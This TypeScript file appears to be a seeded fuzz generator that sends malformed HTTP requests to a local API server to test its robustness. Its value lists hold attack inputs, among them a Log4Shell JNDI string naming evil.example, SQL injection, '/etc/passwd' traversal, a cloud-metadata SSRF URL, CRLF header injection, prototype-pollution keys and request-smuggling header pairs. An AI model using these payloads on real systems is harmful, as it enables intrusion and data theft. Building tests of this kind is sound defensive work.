import { type Endpoint, endpoints } from '@parley/contract'
import { goodBody } from './bad-bodies.ts'

/** A request as bytes on a connection, and how slowly they come. */
export interface GeneratedRequest {
  /** What is wrong with it, for whoever reads of a failure. */
  what: string
  /** Sent in this order, with a pause between them. */
  parts: Buffer[]
  pauseMs: number
  /** The connection is closed after the last part, answered or not. */
  abandoned: boolean
  /** What its headers announce may never come: nothing more is said after the last part. */
  unfinished: boolean
}

/** The same requests for the same seed, in the same order. `authorization`: a good credential, for most of them. */
export function* generateRequests(seed: number, authorization: string): Generator<GeneratedRequest, never> {
  const random = seeded(seed)
  for (;;) yield oneRequest(random, authorization)
}

/** What would end the session that the others use, or mails that go out for each. */
const left = new Set(['logout', 'endSession', 'endOtherSessions', 'deleteMe'])
const all = (Object.entries(endpoints) as [string, Endpoint][]).filter(([name]) => !left.has(name))

/** Numbers from 0 to 1, and what is drawn with them. */
class Random {
  readonly next: () => number
  constructor(next: () => number) {
    this.next = next
  }
  upTo(most: number): number {
    return Math.floor(this.next() * (most + 1))
  }
  pick<T>(list: readonly T[]): T {
    return list[Math.floor(this.next() * list.length)]!
  }
  chance(of: number): boolean {
    return this.next() < of
  }
}

/** mulberry32. */
function seeded(seed: number): Random {
  let state = seed >>> 0
  return new Random(() => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  })
}

function oneRequest(random: Random, authorization: string): GeneratedRequest {
  const [name, endpoint] = random.pick(all)
  const method = random.chance(0.05) ? random.pick(methods) : endpoint.method
  const path = pathOf(random, endpoint)
  const headers: [string, string][] = [['Host', 'localhost']]
  if (endpoint.access !== 'public' && random.chance(0.9)) headers.push(['Authorization', authorization])
  const body = random.chance(endpoint.body || endpoint.media?.request ? 0.95 : 0.2)
    ? bodyOf(random, endpoint)
    : undefined
  if (body) {
    headers.push(['Content-Type', random.chance(0.93) ? 'application/json' : random.pick(mediaTypes)])
  }
  const oddities = random.chance(0.25) ? oddHeaders(random, authorization) : []
  headers.push(...oddities)
  const odd = oddities.length > 0 ? ` with ${oddities[0]![0]}` : ''
  const what = `${name}: ${method} ${path.slice(0, 60)}${odd}, ${body?.what ?? 'no body'}`
  const framing = random.chance(0.04) ? random.pick(wrongFramings) : undefined
  if (framing) headers.push(...framing)
  else if (body) headers.push(['Content-Length', String(body.bytes.length)])
  headers.push(['Connection', 'close'])
  const head = Buffer.from(
    `${method} ${path} HTTP/1.1\r\n${headers.map(([key, value]) => `${key}: ${value}\r\n`).join('')}\r\n`,
    'latin1',
  )
  const unfinished = framing !== undefined
  const bytes = body ? Buffer.concat([head, body.bytes]) : head
  if (random.chance(0.02))
    return { what: 'nothing of HTTP', parts: [noise(random)], pauseMs: 0, abandoned: true, unfinished: true }
  if (random.chance(0.04)) return { ...inPieces(random, bytes), what: `${what}, slowly`, unfinished }
  return { what, parts: [bytes], pauseMs: 0, abandoned: random.chance(0.03), unfinished }
}

const methods = [
  'GET',
  'HEAD',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'get',
  'X'.repeat(300),
]
const mediaTypes = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  'application/json; charset=x',
  'application/scim+json',
  ';',
  'a'.repeat(5000),
]
const wrongFramings: [string, string][][] = [
  [
    ['Content-Length', '10'],
    ['Content-Length', '20'],
  ],
  [['Content-Length', '-1']],
  [['Content-Length', '1e9']],
  [['Content-Length', '99999999999999999999']],
  [['Content-Length', '5000000']],
  [
    ['Transfer-Encoding', 'chunked'],
    ['Content-Length', '4'],
  ],
  [['Transfer-Encoding', 'chunked']],
  [['Transfer-Encoding', 'gzip, chunked']],
  [['Transfer-Encoding', 'identity']],
]

function oddHeaders(random: Random, authorization: string): [string, string][] {
  return random.pick<() => [string, string][]>([
    () => [
      ['Authorization', 'Bearer x'],
      ['Authorization', authorization],
    ],
    () => [
      ['Host', 'elsewhere.example'],
      ['Host', 'localhost'],
    ],
    () => [
      ['Cookie', `parley_session=${text(random)}`],
      ['Cookie', 'parley_session=x'],
    ],
    () => [['Cookie', `${'a=b; '.repeat(random.upTo(2000))}`]],
    () => [['Idempotency-Key', random.pick(['', 'k'.repeat(300), 'a b', '\u00e9'])]],
    () => [['If-Match', random.pick(['*', '"x"', 'W/"1"', '"'.repeat(100)])]],
    () => [['Parley-Workspace', random.pick(['x', '../..', '0'.repeat(36), '01a20b65-0000-7000-8000-000000000000'])]],
    () => [['Last-Event-ID', random.pick(['-1', 'x', '9'.repeat(40)])]],
    () => [['Accept', random.pick(['text/event-stream', 'x/y', '*/*;q=2', 'a'.repeat(3000)])]],
    () => [['Accept-Encoding', random.pick(['br', 'gzip;q=0', 'x', '*'])]],
    () => [['Origin', random.pick(['null', 'https://evil.example', 'x'.repeat(3000), 'http://localhost'])]],
    () => [
      ['Sec-Fetch-Site', 'cross-site'],
      ['Origin', 'https://evil.example'],
    ],
    () => [['X-Forwarded-For', random.pick(['127.0.0.1', 'x', '1.1.1.1, '.repeat(300)])]],
    () => [['X-Request-Id', random.pick(['a\tb', '\u00ff'.repeat(50), 'x'.repeat(500)])]],
    () => [['Range', 'bytes=0-1,5-99999999999']],
    () => [['Expect', random.pick(['100-continue', 'x'])]],
    () => [
      ['Upgrade', 'websocket'],
      ['Sec-WebSocket-Key', 'x'],
      ['Sec-WebSocket-Version', '99'],
    ],
    () => [['Content-Encoding', random.pick(['gzip', 'br', 'x'])]],
    () => [
      ['Signature', 'sig=:x:'],
      ['Signature-Input', random.pick(['sig=()', 'sig=("@method");keyid="x"', '('])],
    ],
    () => Array.from({ length: random.upTo(300) }, (_, i): [string, string] => [`X-Many-${i}`, 'x']),
    () => [
      ['__proto__', 'x'],
      ['constructor', 'x'],
    ],
    () => [['X', 'a'.repeat(random.upTo(40_000))]],
  ])()
}

function pathOf(random: Random, { path }: Endpoint): string {
  const filled = path.replaceAll(/\{\w+\}/g, () => random.pick(segments))
  if (random.chance(0.03))
    return random.pick([
      '*',
      '//',
      '/../../etc/passwd',
      '/%2e%2e/%2e%2e',
      'http://evil.example/api/v1/me',
      '/\0',
      `/${'a'.repeat(9000)}`,
    ])
  if (random.chance(0.6)) return filled
  const pairs = Array.from({ length: 1 + random.upTo(random.chance(0.05) ? 300 : 3) }, () => random.pick(queries))
  return `${filled}?${pairs.join('&')}`
}

const segments = [
  '01a20b65-0000-7000-8000-000000000000',
  'x',
  '__proto__',
  'constructor',
  'toString',
  '%00',
  '%zz',
  '%F0%9F',
  '%ED%A0%80',
  '..%2f..',
  '1',
  '-1',
  'a'.repeat(1200),
  "'%3bdrop%20table%20users",
]
const queries = [
  'limit=1',
  'limit=-1',
  'limit=1e99',
  'limit=NaN',
  'limit=1&limit=2',
  'limit[]=1',
  'limit[a]=1',
  'cursor=x',
  'cursor=bnVsbA',
  'cursor=%00',
  'sort=%27',
  'search=%F0%9F',
  'search=%25%25%25_',
  `search=${'%F0%9F%98%80'.repeat(300)}`,
  'from=2020-01-01',
  'from=99999-01-01',
  '__proto__=1',
  '__proto__[a]=1',
  'constructor.prototype.a=1',
  'a',
  '=',
  '&&&',
  '%',
]

function bodyOf(random: Random, endpoint: Endpoint): { what: string; bytes: Buffer } {
  const good = endpoint.body ? goodBody(endpoint.body) : {}
  const kind = random.pick([
    'wrong',
    'wrong',
    'wrong',
    'wrong',
    'unicode',
    'prototype',
    'huge',
    'deep',
    'broken',
  ] as const)
  const json = (value: unknown) => Buffer.from(JSON.stringify(value) ?? 'null')
  switch (kind) {
    case 'wrong':
      return { what: 'a wrong value', bytes: json(spoiled(random, good, value)) }
    case 'unicode':
      return { what: 'odd text', bytes: json(spoiled(random, good, text)) }
    case 'prototype':
      return { what: 'a key of prototypes', bytes: Buffer.from(withPrototypeKey(random, JSON.stringify(good))) }
    case 'huge':
      return { what: 'something huge', bytes: json(spoiled(random, good, huge)) }
    case 'deep': {
      const levels = random.pick([10, 63, 64, 65, 1000, 100_000])
      const deep = random.chance(0.5)
        ? '['.repeat(levels) + ']'.repeat(levels)
        : `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`
      return {
        what: `${levels} levels`,
        bytes: Buffer.from(
          random.chance(0.5) ? deep : `{"${random.pick(Object.keys(good as object).concat('x'))}":${deep}}`,
        ),
      }
    }
    case 'broken':
      return { what: 'no JSON', bytes: broken(random, json(good)) }
  }
}

/** The value, with one of its fields (or all of it) replaced, at any depth. */
function spoiled(random: Random, good: unknown, make: (random: Random) => unknown): unknown {
  if (typeof good !== 'object' || good === null || random.chance(0.1)) return make(random)
  const keys = Object.keys(good)
  if (keys.length === 0) return { [String(text(random))]: make(random) }
  const key = random.pick(keys)
  const changed = spoiled(random, (good as Record<string, unknown>)[key], make)
  return Array.isArray(good) ? good.with(Number(key), changed) : { ...good, [key]: changed }
}

function value(random: Random): unknown {
  return random.pick([
    null,
    true,
    false,
    0,
    -1,
    1.5,
    1e308,
    -0,
    2 ** 53,
    '',
    ' ',
    'x',
    'null',
    '2020-13-45T99:99:99Z',
    'javascript:alert(1)',
    'http://169.254.169.254/latest',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for those who fill in templates
    '${jndi:ldap://evil.example}',
    "'; drop table users; --",
    '../../etc/passwd',
    [],
    [[]],
    [null],
    {},
    { a: { b: [] } },
  ])
}

function text(random: Random): string {
  return random.pick([
    'a\0b',
    '\ud800',
    '\udc00\ud800',
    '\uffff',
    '\u202etxt.exe',
    'e\u0301'.repeat(50),
    '\u{1F469}\u200d\u{1F469}\u200d\u{1F467}'.repeat(20),
    'Z\u0351\u036b'.repeat(30),
    '\u00a0\u2003\u3000',
    '\r\nSet-Cookie: a=b',
    '\u{10FFFF}',
    '%00%F0',
    '\ufeff',
    '0'.repeat(30),
    '\u0661\u0662',
  ])
}

function huge(random: Random): unknown {
  return random.pick<() => unknown>([
    () => 'x'.repeat(random.pick([10_000, 300_000, 1_900_000, 2_500_000])),
    () => '\u{1F600}'.repeat(random.pick([10_000, 200_000])),
    () => Array.from({ length: random.pick([1_000, 50_000, 150_000]) }, () => 0),
    () => Array.from({ length: random.pick([1_000, 20_000]) }, () => ({ a: 1 })),
    () => Object.fromEntries(Array.from({ length: random.pick([1_000, 60_000]) }, (_, i) => [`k${i}`, i])),
    () => Number(`1${'0'.repeat(300)}`),
    () => 'a'.repeat(50_000).concat('!'),
  ])()
}

function withPrototypeKey(random: Random, json: string): string {
  const key = random.pick([
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '\\u005f_proto__',
    '__defineGetter__',
  ])
  const inside = random.pick(['{"admin":true}', '{"prototype":{"admin":true}}', 'null', '1', '[]'])
  return json.startsWith('{')
    ? `${json.slice(0, -1)}${json === '{}' ? '' : ','}"${key}":${inside}}`
    : `{"${key}":${inside}}`
}

function broken(random: Random, json: Buffer): Buffer {
  const at = random.upTo(json.length)
  return random.pick<() => Buffer>([
    () => json.subarray(0, at),
    () => Buffer.concat([json, json]),
    () => Buffer.concat([json.subarray(0, at), Buffer.from([random.upTo(255), 0xc3, 0x28]), json.subarray(at)]),
    () => Buffer.from([0xef, 0xbb, 0xbf, ...json]),
    () => Buffer.from(json.toString(), 'utf16le'),
    () => Buffer.from(json.toString().replaceAll('"', "'")),
    () => Buffer.alloc(random.upTo(2000), random.upTo(255)),
    () => Buffer.from('{"a":1,"a":2}'),
    () => Buffer.from('01'),
    () => Buffer.from('[1,]'),
  ])()
}

/** A few pieces, the last of which may never come. */
function inPieces(random: Random, bytes: Buffer): Omit<GeneratedRequest, 'what' | 'unfinished'> {
  const count = 2 + random.upTo(4)
  const size = Math.ceil(bytes.length / count)
  const parts = Array.from({ length: count }, (_, i) => bytes.subarray(i * size, (i + 1) * size)).filter(
    (part) => part.length > 0,
  )
  const abandoned = random.chance(0.4)
  return { parts: abandoned ? parts.slice(0, -1) : parts, pauseMs: 10 + random.upTo(60), abandoned }
}

function noise(random: Random): Buffer {
  return random.pick<() => Buffer>([
    () => Buffer.from(Array.from({ length: random.upTo(500) }, () => random.upTo(255))),
    () => Buffer.from('GET / HTTP/9.9\r\n\r\n'),
    () => Buffer.from('GET /\r\n\r\n'),
    () => Buffer.from('POST /api/v1/me HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n'),
    () => Buffer.from(`GET / HTTP/1.1\r\nHost: x\r\n${'A'.repeat(30_000)}: b\r\n\r\n`),
    () => Buffer.from('GET / HTTP/1.1\nHost: x\n\n'),
    () => Buffer.from('GET / HTTP/1.1\r\nHost: x\r\nA : b\r\n\r\n'),
    () => Buffer.from('GET / HTTP/1.1\r\nHost: x\r\nA: b\r\n c\r\n\r\n'),
    () => Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    () => Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]),
  ])()
}
